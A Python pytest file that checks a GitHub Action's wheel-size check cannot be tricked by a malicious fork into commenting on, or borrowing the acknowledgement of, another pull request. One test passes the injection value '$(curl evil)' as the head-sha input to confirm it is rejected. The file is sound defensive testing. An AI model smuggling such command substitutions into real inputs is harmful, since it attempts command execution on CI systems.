"""A fork cannot choose its pull request (issue 17): the privileged ``workflow_run`` job of the
documented fork-safe check learns the pull request from GitHub (the run's head commit and
head repository), never from the artifact the untrusted build uploaded.

Each test runs the Action's entrypoint as the runner does, in a ``workflow_run`` job, against
the fake GitHub with real wheels: a victim pull request whose description acknowledges an
increase, and a fork's pull request whose over-budget build claims the victim's number.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from action_runner import read_outputs, run_action, runner_env
from check_world import NIGHTLY, World, big_pr_wheel
from cli_runner import run_main
from fakegithub import FakeGitHub, add_pull

FORK = "mallory/pytorch"
FORK_SHA = "f" * 40
VICTIM_SHA = "a" * 40


class Scene:
    """The nightly world, a victim PR (same repository, acknowledges an increase) and a fork's
    PR built by the run the ``workflow_run`` event describes."""

    def __init__(self, fake: FakeGitHub, tmp: Path) -> None:
        self.fake = fake
        self.tmp = tmp
        self.world = World(fake, tmp / "world")
        repo = self.world.repo
        self.victim = add_pull(
            repo,
            "Blackwell kernels",
            "Adds kernels.\n\nWheel-Size: sm_120 kernels are worth it\n",
            head_sha=VICTIM_SHA,
            head_ref="blackwell",
        )
        self.fork_pr = add_pull(
            repo,
            "Small fix",
            "Fixes a typo.",
            head_sha=FORK_SHA,
            head_ref="evil",
            head_repository=FORK,
            user="mallory",
        )
        self.workspace = tmp / "workspace"
        big_pr_wheel(self.workspace / "pr-build")  # +2 MB over the nightly

    def run(
        self,
        *,
        claimed: int | None,
        head_sha: str = FORK_SHA,
        head_repository: str | None = FORK,
        head_branch: str = "evil",
        run_event: str = "pull_request",
        event_pulls: list[int] | None = None,
        inputs: dict[str, str] | None = None,
    ) -> tuple[int, str, dict[str, object]]:
        event = self.tmp / "event.json"
        event.write_text(
            json.dumps(
                {
                    "action": "completed",
                    "workflow_run": {
                        "id": 99,
                        "event": run_event,
                        "head_sha": head_sha,
                        "head_branch": head_branch,
                        "head_repository": (
                            None if head_repository is None else {"full_name": head_repository}
                        ),
                        "pull_requests": [{"number": n} for n in event_pulls or []],
                    },
                }
            )
        )
        values = {
            "check-wheels": "pr-build/pr",
            "history-dir": str(self.world.history),
            "check-budget-mb": "1",
            # The fake PRs have no git history (merge base unknown: not checked, issue 29):
            # these tests are about whose PR it is, so they compare with the newest night.
            "compare-with": "newest",
            "pr-number": "" if claimed is None else str(claimed),
            **(inputs or {}),
        }
        env = runner_env(
            self.fake,
            self.tmp,
            values,
            extra={"GITHUB_EVENT_PATH": str(event), "GITHUB_EVENT_NAME": "workflow_run"},
            action="check",
        )
        (self.tmp / "output").write_text("")
        done = run_action(env, "check")
        assert "Traceback" not in done.stderr + done.stdout
        result = json.loads((self.workspace / "wheel-size-check.json").read_text())
        return done.returncode, done.stdout, result


@pytest.fixture
def scene(fake_github: FakeGitHub, tmp_path: Path) -> Scene:
    return Scene(fake_github, tmp_path)


def test_fork_artifact_naming_another_pr_is_refused(scene: Scene) -> None:
    status, stdout, result = scene.run(claimed=scene.victim.number)
    # Nothing is commented anywhere: not on the victim, not on the fork's own PR.
    assert scene.victim.comments == [] and scene.fork_pr.comments == []
    warnings = [line for line in stdout.splitlines() if line.startswith("::warning")]
    assert len(warnings) == 1, stdout
    assert f"pull request #{scene.victim.number}" in warnings[0]
    assert FORK_SHA[:12] in warnings[0] and "refused" in warnings[0]
    # The victim's acknowledgement is not borrowed: the +2 MB wheel fails the 1 MB budget.
    assert result["acknowledgement"] is None and result["failed"] is True
    assert status == 1
    assert read_outputs(scene.tmp / "output")["check-comment-url"] == ""
    assert "refused" in (scene.workspace / "wheel-size-check.md").read_text()


def test_fork_pr_is_found_by_head_and_commented(scene: Scene) -> None:
    status, _, result = scene.run(claimed=None)
    assert scene.victim.comments == []
    [comment] = scene.fork_pr.comments
    assert "over budget" in comment.body
    assert result["acknowledgement"] is None and status == 1
    # One request finds it: the open pull requests from mallory:evil.
    assert scene.fake.count("GET", r"/pulls$") == 1


def test_claim_that_matches_the_head_is_accepted(scene: Scene) -> None:
    status, _, _ = scene.run(claimed=scene.fork_pr.number)
    assert len(scene.fork_pr.comments) == 1 and scene.victim.comments == []
    assert status == 1


def test_same_repository_pr_from_the_event_keeps_its_acknowledgement(scene: Scene) -> None:
    status, stdout, result = scene.run(
        claimed=None,
        head_sha=VICTIM_SHA,
        head_repository="pytorch/pytorch",
        head_branch="blackwell",
        event_pulls=[scene.victim.number],
    )
    assert status == 0, stdout
    assert result["acknowledgement"] == "sm_120 kernels are worth it"
    [comment] = scene.victim.comments
    assert "acknowledged" in comment.body
    assert scene.fake.count("GET", r"/pulls$") == 0  # the event named it; no search


def test_event_naming_a_pr_whose_head_moved_is_not_trusted(scene: Scene) -> None:
    # The event lists the victim, but the victim's head is not the commit this run built.
    status, stdout, result = scene.run(
        claimed=None,
        head_sha="c" * 40,
        head_repository="pytorch/pytorch",
        head_branch="blackwell",
        event_pulls=[scene.victim.number],
    )
    assert scene.victim.comments == []
    assert result["acknowledgement"] is None and status == 1
    assert "no open pull request" in stdout


def test_fork_claim_on_the_command_line_is_refused_too(scene: Scene) -> None:
    done = run_main(
        [
            "check",
            str(scene.workspace / "pr-build" / "pr" / NIGHTLY),
            "--repo",
            "pytorch/pytorch",
            "--history",
            str(scene.world.history),
            "--budget-mb",
            "1",
            "--pr-number",
            str(scene.victim.number),
            "--head-sha",
            FORK_SHA,
            "--head-repo",
            FORK,
            "--json",
            str(scene.tmp / "cli.json"),
            "--compare-with",
            "newest",
        ],
        env=scene.fake.env(),
    )
    assert done.returncode == 1, done.stderr
    assert scene.victim.comments == []
    assert "refused" in done.stderr
    [warning] = json.loads((scene.tmp / "cli.json").read_text())["warnings"]
    assert f"#{scene.victim.number}" in warning


def test_bad_head_input_is_one_line_and_nothing_written(scene: Scene) -> None:
    inputs = {
        "check-wheels": "pr-build/pr",
        "history-dir": str(scene.world.history),
        "head-sha": "$(curl evil)",
        "head-repository": FORK,
    }
    done = run_action(runner_env(scene.fake, scene.tmp, inputs, action="check"), "check")
    assert done.returncode == 2
    assert "::error title=wheel-size::input head-sha must be a commit SHA" in done.stdout
    assert not (scene.workspace / "wheel-size-check.md").exists()
    assert scene.victim.comments == [] and scene.fork_pr.comments == []


@pytest.mark.parametrize("run_event", ["push", "workflow_dispatch", "schedule"])
def test_a_run_that_is_no_pull_requests_speaks_for_none(scene: Scene, run_event: str) -> None:
    """Issue 32: the triggering run was a push (its head the victim's head commit, the
    head given explicitly as the documented pattern does): the artifact's number is not
    trusted, nothing is commented, the report is written."""
    status, stdout, result = scene.run(
        claimed=scene.victim.number,
        run_event=run_event,
        inputs={"head-sha": VICTIM_SHA, "head-repository": "pytorch/pytorch"},
    )
    assert scene.victim.comments == [] and scene.fork_pr.comments == []
    warnings = [line for line in stdout.splitlines() if line.startswith("::warning")]
    assert len(warnings) == 1 and f"a {run_event} run, not a pull request" in warnings[0]
    assert result["acknowledgement"] is None and status == 1
    assert "not a pull request" in (scene.workspace / "wheel-size-check.md").read_text()


def test_a_deleted_fork_is_reported_as_such_with_a_report(scene: Scene) -> None:
    """Issue 32: the fork was deleted (the event's head_repository is null): one warning
    naming it, the report written, the check's verdict as exit status (not exit 2 naming
    an input nobody set)."""
    status, stdout, result = scene.run(claimed=None, head_repository=None)
    assert scene.victim.comments == [] and scene.fork_pr.comments == []
    warnings = [line for line in stdout.splitlines() if line.startswith("::warning")]
    assert len(warnings) == 1 and "deleted fork" in warnings[0], stdout
    assert status == 1 and result["failed"] is True
    assert "deleted fork" in (scene.workspace / "wheel-size-check.md").read_text()


def _cli_check(scene: Scene, *flags: str, env: dict[str, str]) -> tuple[int, str, list[str]]:
    done = run_main(
        [
            "check",
            str(scene.workspace / "pr-build" / "pr" / NIGHTLY),
            "--repo",
            "pytorch/pytorch",
            "--history",
            str(scene.world.history),
            "--budget-mb",
            "1",
            "--json",
            str(scene.tmp / "cli.json"),
            "--compare-with",
            "newest",
            *flags,
        ],
        env={**scene.fake.env(), **env},
    )
    assert "Traceback" not in done.stderr
    return (
        done.returncode,
        done.stderr,
        json.loads((scene.tmp / "cli.json").read_text())["warnings"],
    )


@pytest.mark.parametrize("run_event", ["push", "schedule"])
def test_cli_in_a_workflow_run_of_no_pull_request_speaks_for_none(
    scene: Scene, run_event: str
) -> None:
    """Issue 32: ``wheel-size check --head-sha`` in a ``workflow_run`` job reads the
    triggering run's event as the Action does: a push run whose head is the victim's head
    commit does not let the build's number through."""
    event = scene.tmp / "event.json"
    event.write_text(
        json.dumps(
            {
                "workflow_run": {
                    "event": run_event,
                    "head_sha": VICTIM_SHA,
                    "head_branch": "blackwell",
                    "head_repository": {"full_name": "pytorch/pytorch"},
                    "pull_requests": [],
                }
            }
        )
    )
    status, stderr, warnings = _cli_check(
        scene,
        "--pr-number",
        str(scene.victim.number),
        "--head-sha",
        VICTIM_SHA,
        "--head-repo",
        "pytorch/pytorch",
        env={"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_EVENT_PATH": str(event)},
    )
    assert scene.victim.comments == [] and scene.fork_pr.comments == []
    assert status == 1, stderr  # the victim's acknowledgement is not borrowed either
    [warning] = warnings
    assert f"a {run_event} run, not a pull request" in warning


def test_cli_in_a_pull_request_workflow_run_uses_the_events_pull_requests(scene: Scene) -> None:
    """The same reading, the good case: the triggering run was the victim's pull request,
    its event lists it, so the CLI comments there without listing open pull requests."""
    event = scene.tmp / "event.json"
    event.write_text(
        json.dumps(
            {
                "workflow_run": {
                    "event": "pull_request",
                    "head_sha": VICTIM_SHA,
                    "head_branch": "blackwell",
                    "head_repository": {"full_name": "pytorch/pytorch"},
                    "pull_requests": [{"number": scene.victim.number}],
                }
            }
        )
    )
    status, stderr, warnings = _cli_check(
        scene,
        "--head-sha",
        VICTIM_SHA,
        "--head-repo",
        "pytorch/pytorch",
        env={"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_EVENT_PATH": str(event)},
    )
    assert status == 0, stderr
    assert warnings == [] and len(scene.victim.comments) == 1
    assert scene.fake.count("GET", r"/pulls$") == 0
